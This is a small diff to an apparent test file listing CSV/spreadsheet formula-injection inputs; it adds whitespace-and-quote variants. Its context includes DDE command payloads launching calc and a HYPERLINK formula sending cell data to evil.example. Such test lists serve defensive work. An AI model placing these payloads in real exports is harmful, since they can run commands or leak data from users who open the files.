@@ -14,6 +14,7 @@ ATTACKS = [
     *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
     *(f"{white}=1+1" for white in ("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u3000", '"')),
     *("\ttext", "\rtext", "\ntext"),
+    *(';"\ttext', ';""\ttext', 'a\n"\ttext', 'a\t"\rtext'),
     *("a;=1+1", "a; =1+1", 'a;"=1+1"', "a;\t@x", "a\n=1+1", "a\t=1+1", "a\n\n\n-1", ";;;=1"),
     'a;""=HYPERLINK("https://evil.example/?"&A1)',
 ]
